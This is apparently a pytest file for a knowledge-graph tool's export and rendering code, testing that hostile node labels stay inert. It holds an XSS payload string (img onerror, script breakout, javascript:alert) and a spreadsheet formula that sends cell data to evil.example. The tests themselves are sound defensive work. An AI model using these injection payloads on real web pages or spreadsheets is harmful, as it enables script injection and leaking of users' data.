"""Injection: data-derived text never becomes live HTML or a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest

from graph.export import export_graph
from graph.results import to_csv
from graph.sparql import run_query
from graph.store import open_graph

HOSTILE_LABEL = '<img src=x onerror="alert(1)"></script><script>alert(2)</script>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture(scope="module")
def hostile_kg(tmp_path_factory: pytest.TempPathFactory):
    d = tmp_path_factory.mktemp("hostile")
    f = d / "hostile.ttl"
    f.write_text(
        "@prefix ag: <https://w3id.org/alliance-graph/ontology#> .\n"
        "@prefix agr: <https://w3id.org/alliance-graph/id/> .\n"
        "@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .\n"
        "@prefix prov: <http://www.w3.org/ns/prov#> .\n"
        "@prefix xsd: <http://www.w3.org/2001/XMLSchema#> .\n"
        f"agr:EVIL a ag:Company ; rdfs:label {HOSTILE_LABEL!r} ; rdfs:comment \"javascript:alert(3)\" .\n"
        f"agr:FORMULA a ag:Company ; rdfs:label '{FORMULA}' .\n"
        "agr:st-evil a ag:Supply ; ag:subject agr:EVIL ; ag:object agr:FORMULA ; ag:relation ag:suppliesTo ;\n"
        "  ag:credibility 6 ; prov:wasDerivedFrom agr:seed-004 .\n",
        encoding="utf-8",
    )
    return open_graph("oxigraph", [f])


def test_csv_download_neutralises_formulas(hostile_kg) -> None:
    result = run_query(hostile_kg, "SELECT ?l WHERE { agr:FORMULA rdfs:label ?l }")
    rows = list(csv.reader(io.StringIO(to_csv(result, safe=True))))
    assert rows[1][0] == "'" + FORMULA
    # the standard SPARQL CSV (CLI, endpoint) keeps the value exactly
    assert list(csv.reader(io.StringIO(to_csv(result))))[1][0] == FORMULA


def test_network_csv_export_neutralises_formulas(hostile_kg) -> None:
    z = zipfile.ZipFile(io.BytesIO(export_graph(hostile_kg, "csv")))
    text = z.read("nodes.csv").decode("utf-8")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + FORMULA in cells
    assert FORMULA not in cells


def test_rendered_graph_keeps_hostile_labels_as_data(hostile_kg) -> None:
    import networkx as nx

    from graph.render import render_html

    g = nx.MultiDiGraph()
    g.add_node("evil", label=HOSTILE_LABEL, title=HOSTILE_LABEL + " javascript:alert(3)")
    g.add_node("other", label="href", title="href")
    g.add_edge("evil", "other", title=HOSTILE_LABEL)
    html = render_html(g)
    # the label only appears JSON-escaped inside the data, never as markup
    assert "<img src=x" not in html
    assert "</script><script>alert(2)" not in html
    assert "\\u003cimg" in html or "\\u003c" in html
    # the popup that writes tooltips with innerHTML is never used
    assert "popup.innerHTML" not in html


def test_html_export_of_the_whole_app_view_is_offline_and_inert(hostile_kg, tmp_path: Path) -> None:
    from graph.network import project
    from graph.render import assert_self_contained, render_html

    g = project(hostile_kg)
    for _, d in g.nodes(data=True):
        d["title"] = d.get("label")
    html = render_html(g)
    assert_self_contained(html)
    assert "<img src=x" not in html
